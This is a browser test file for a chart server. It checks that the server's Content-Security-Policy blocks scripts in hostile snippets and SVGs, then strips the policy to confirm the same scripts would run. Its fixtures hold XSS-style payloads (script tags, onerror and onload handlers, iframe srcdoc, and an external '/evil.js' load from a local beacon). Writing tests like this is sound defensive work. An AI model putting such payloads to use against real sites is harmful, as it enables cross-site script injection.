// The Content-Security-Policies, proven in headless Chromium against the real
// server on loopback: a snippet opened directly shows its picture, and no
// script runs, not even in a snippet or an SVG built to carry one. Each hostile
// page is also loaded with the policy stripped, to prove its scripts would run.
import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer as createHttpServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { FastifyInstance } from "fastify";
import type { Browser, Page } from "playwright-core";
import { launchChromium } from "@charts/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { publish, releasesDir, sha256, swapTo, type Manifest } from "@charts/publish";
import { createServer } from "../src/index.ts";
import { SVG_POLICY } from "../src/policies.ts";
import { syntheticChart } from "./fixtures/charts.ts";
import { listen } from "./fixtures/sockets.ts";

// The stripped-policy controls are fulfilled by Playwright, which Chromium counts as a public page that may
// not reach loopback (Local Network Access): off, so the controls show what the hostile files would reach.
const NO_LOCAL_NETWORK_CHECKS = "--disable-features=LocalNetworkAccessChecks";

/** Records that a script ran, in the document it ran in. */
const mark = (label: string) => `(window.__pwned = window.__pwned || []).push('${label}')`;

let root: string;
let dir: string;
let app: FastifyInstance;
let base: string;
let browser: Browser;
// Another origin, to see whether a page can send anything out.
let beacon: Server;
let beaconBase: string;
const beaconHits: string[] = [];
/** `<status> <url>` of every response of the service, as it sent them. */
const served: string[] = [];

/** An SVG that styles itself (the policy must allow that) and carries scripts (it must not run them). */
function hostileSvg(): string {
  return [
    `<svg xmlns="http://www.w3.org/2000/svg" width="640" height="400" viewBox="0 0 640 400" onload="${mark("svg-onload")}">`,
    `<style>#bar { fill: rgb(1, 2, 3) }</style>`,
    `<script>${mark("svg-script")}</script>`,
    `<rect id="bar" width="640" height="400"/>`,
    `<image href="${beaconBase}/svg-image.png" width="1" height="1"/>`,
    "</svg>",
  ].join("");
}

/** The snippet as published, with scripts, an iframe and a tracking image added around it. */
function hostileSnippet(snippet: string): string {
  return [
    `<script>${mark("snippet-script")}</script>`,
    `<img id="onerror" src="${beaconBase}/missing.png" onerror="${mark("snippet-onerror")}">`,
    `<iframe srcdoc="<script>${mark("iframe-script")}</script>"></iframe>`,
    `<svg onload="${mark("snippet-svg-onload")}"></svg>`,
    `<script src="${beaconBase}/evil.js"></script>`,
    snippet,
  ].join("\n");
}

beforeAll(async () => {
  beacon = createHttpServer((request, response) => {
    beaconHits.push(request.url!);
    response.writeHead(request.url!.endsWith(".js") ? 200 : 404, { "Content-Type": "text/javascript" });
    response.end(request.url!.endsWith(".js") ? mark("external-script") : "");
  });
  await new Promise<void>((resolve) => beacon.listen(0, "127.0.0.1", resolve));
  // Another port: another origin than the service's.
  beaconBase = `http://127.0.0.1:${(beacon.address() as { port: number }).port}`;

  root = await mkdtemp(join(tmpdir(), "server-policies-"));
  dir = join(root, "charts");
  const hostile = syntheticChart("hostile", 1, { dark: true });
  for (const variant of hostile.variants) variant.svg = hostileSvg();
  const { releaseDir, manifest } = await publish({ outDir: dir, charts: [syntheticChart("good"), hostile], toolVersion: "1.0.0", sync: false, now: new Date("2024-06-19T08:00:00Z") });

  // publish escapes what it writes into a snippet: a hostile one is written by hand, in a copy of the release.
  const release = join(releasesDir(dir), "hostile-snippet");
  await cp(releaseDir, release, { recursive: true });
  const entry = manifest.charts.find((chart) => chart.slug === "hostile")!;
  const snippet = Buffer.from(hostileSnippet(await readFile(join(release, entry.embed.stable!), "utf8")));
  for (const name of [entry.embed.name, entry.embed.stable!]) await writeFile(join(release, name), snippet);
  const edited: Manifest = { ...manifest, charts: manifest.charts.map((chart) => (chart === entry ? { ...chart, embed: { ...chart.embed, bytes: snippet.length, sha256: sha256(snippet) } } : chart)) };
  await writeFile(join(release, "manifest.json"), JSON.stringify(edited, null, 2));
  await swapTo(dir, release);

  app = await createServer({ dir });
  app.addHook("onResponse", async (request, reply) => served.push(`${reply.statusCode} ${request.url}`));
  ({ base } = await listen(app));
  browser = await launchChromium({ args: [NO_LOCAL_NETWORK_CHECKS], renderFonts: true });
});

afterAll(async () => {
  await browser?.close();
  await app?.close();
  await new Promise((resolve) => beacon?.close(resolve));
  await rm(root, { recursive: true, force: true });
});

/** Every mark left by a script, in the page and its frames. */
async function scriptsRun(page: Page): Promise<string[]> {
  const marks: string[] = [];
  for (const frame of page.frames()) {
    marks.push(...(await frame.evaluate(() => (window as unknown as { __pwned?: string[] }).__pwned ?? []).catch(() => [])));
  }
  return marks.sort();
}

/** A page whose responses from the service lose their Content-Security-Policy: what the hostile files would do without it. */
async function withoutPolicy(page: Page): Promise<void> {
  await page.route(`${base}/**`, async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers() };
    delete headers["content-security-policy"];
    await route.fulfill({ response, headers });
  });
}

/** The state of the snippet's picture once it has loaded (or failed). */
async function picture(page: Page) {
  await page.waitForFunction(() => document.querySelector<HTMLImageElement>("figure img")?.complete === true);
  return page.evaluate(() => {
    const img = document.querySelector<HTMLImageElement>("figure img")!;
    return { width: img.naturalWidth, src: img.currentSrc };
  });
}

describe("in headless Chromium", () => {
  it("shows a snippet's picture (the SVG through <picture>) under the embed policy", async () => {
    const page = await browser.newPage({ viewport: { width: 800, height: 600 } });
    try {
      for (const path of ["/charts/good/embed", "/charts/good.html"]) {
        const response = await page.goto(`${base}${path}`);
        expect(response!.headers()["content-security-policy"]).toContain("img-src 'self'");
        const shown = await picture(page);
        expect(shown.width, path).toBe(640);
        expect(shown.src, path).toMatch(/\/charts\/good\.[0-9a-f]{12}\.svg$/);
      }
      // The PNG fallback loads too, where SVG is not taken.
      await page.goto(`${base}/charts/good/embed`);
      const png = await page.evaluate(async () => {
        const img = document.querySelector<HTMLImageElement>("figure img")!;
        const fallback = new Image();
        fallback.src = img.src;
        await fallback.decode();
        return fallback.naturalWidth;
      });
      expect(png).toBe(16);
    } finally {
      await page.close();
    }
  });

  it("runs no script of a hostile snippet, loads nothing from elsewhere, and still shows its picture", async () => {
    const page = await browser.newPage({ viewport: { width: 800, height: 600 } });
    const hits = beaconHits.length;
    try {
      await page.goto(`${base}/charts/hostile/embed`);
      expect((await picture(page)).width).toBe(640);
      await page.waitForTimeout(300);
      expect(await scriptsRun(page)).toEqual([]);
      expect(beaconHits.slice(hits)).toEqual([]);
    } finally {
      await page.close();
    }
    // The same bytes without the policy: the scripts run and the page calls out.
    const control = await browser.newPage();
    try {
      await withoutPolicy(control);
      await control.goto(`${base}/charts/hostile/embed`);
      await control.waitForFunction(() => ((window as unknown as { __pwned?: string[] }).__pwned ?? []).length >= 3);
      await control.waitForTimeout(300);
      expect(await scriptsRun(control)).toEqual(expect.arrayContaining(["external-script", "iframe-script", "snippet-onerror", "snippet-script"]));
      expect(beaconHits.slice(hits)).toEqual(expect.arrayContaining(["/missing.png", "/evil.js"]));
    } finally {
      await control.close();
    }
  });

  it("runs no script of an SVG opened directly, applies its styles, and keeps the SVG policy when a reload gets a 304", async () => {
    const page = await browser.newPage();
    const hits = beaconHits.length;
    try {
      const svgPath = "/charts/hostile.svg";
      const first = await page.goto(`${base}${svgPath}`);
      expect(first!.headers()["content-security-policy"]).toBe(SVG_POLICY);
      const fill = () => page.evaluate(() => getComputedStyle(document.querySelector("#bar")!).fill);
      expect(await fill()).toBe("rgb(1, 2, 3)");
      await page.waitForTimeout(200);
      expect(await scriptsRun(page)).toEqual([]);
      // A reload revalidates the stored copy: the 304 must carry the SVG's own policy, or the
      // stored one is replaced by another (no inline styles) and the chart loses its styling.
      const before = served.length;
      await page.reload();
      expect(served.slice(before)).toEqual([`304 ${svgPath}`]);
      expect(await fill()).toBe("rgb(1, 2, 3)");
      expect(await scriptsRun(page)).toEqual([]);
      expect(beaconHits.slice(hits)).toEqual([]);
    } finally {
      await page.close();
    }
    const control = await browser.newPage();
    try {
      await withoutPolicy(control);
      await control.goto(`${base}/charts/hostile.svg`);
      await control.waitForTimeout(300);
      expect(await scriptsRun(control)).toEqual(["svg-onload", "svg-script"]);
    } finally {
      await control.close();
    }
  });
});
